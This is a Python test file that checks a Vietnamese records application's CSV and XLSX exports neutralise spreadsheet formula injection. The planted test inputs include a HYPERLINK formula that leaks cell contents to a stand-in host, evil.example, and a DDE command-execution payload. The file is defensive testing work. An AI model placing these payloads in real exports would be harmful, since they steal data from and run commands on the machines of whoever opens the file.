"""No export carries a formula: text a subordinate typed that a spreadsheet would run (OWASP,
"CSV Injection") stays text in every XLSX and CSV KHTH writes, and numbers stay numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from khth.documents.model import Sheet, SheetColumn, Spreadsheet
from khth.documents.render.xlsx import render_workbook
from khth.lib.cells import csv_cell, formula_like, from_csv_cell
from khth.units.actions import update_unit
from khth.units.csvio import export_units, import_units
from khth.units.models import Unit

PLANTED = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tđầu dòng tab",
    "\rđầu dòng CR",
]


@pytest.mark.parametrize("text", PLANTED)
def test_formula_text_is_quoted_for_csv_and_read_back(text):
    assert formula_like(text)
    assert csv_cell(text) == "'" + text
    assert from_csv_cell(csv_cell(text)) == text


@pytest.mark.parametrize("value", ["Đại đội 1", "'ghi chú", "", 12, Decimal("-3.5"), None])
def test_other_cells_are_left_as_they_are(value):
    assert csv_cell(value) == value
    if isinstance(value, str):
        assert from_csv_cell(value) == value


def test_xlsx_keeps_formula_text_as_text_and_numbers_as_numbers():
    sheet = Sheet(
        title="Sổ",
        columns=(SheetColumn("Nội dung", 40), SheetColumn("Số", 10)),
        rows=tuple((text, -5) for text in PLANTED),
    )
    body = render_workbook(Spreadsheet(title="t", subject="s", sheets=(sheet,)))
    read = openpyxl.load_workbook(io.BytesIO(body)).active
    assert read is not None
    for r, text in enumerate(PLANTED, start=2):
        cell = read.cell(row=r, column=1)
        assert (cell.value, cell.data_type) == (text, "s")
        number = read.cell(row=r, column=2)
        assert (number.value, number.data_type) == (-5, "n")
    xml = zipfile.ZipFile(io.BytesIO(body)).read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in xml  # no formula element anywhere


@pytest.mark.django_db
def test_units_csv_export_quotes_planted_text_and_round_trips(world):
    unit = Unit.objects.get(code="C1")
    update_unit(unit, by=None, name="=cmd|' /C calc'!A0", place="@xã Phú Tâm")
    text = export_units(Unit.objects.select_related("parent"))
    rows = {row["code"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows["C1"]["name"] == "'=cmd|' /C calc'!A0"
    assert rows["C1"]["place"] == "'@xã Phú Tâm"
    result = import_units(text.encode(), by=None)
    assert result.updated == 0 and result.unchanged == 7
    unit.refresh_from_db()
    assert (unit.name, unit.place) == ("=cmd|' /C calc'!A0", "@xã Phú Tâm")
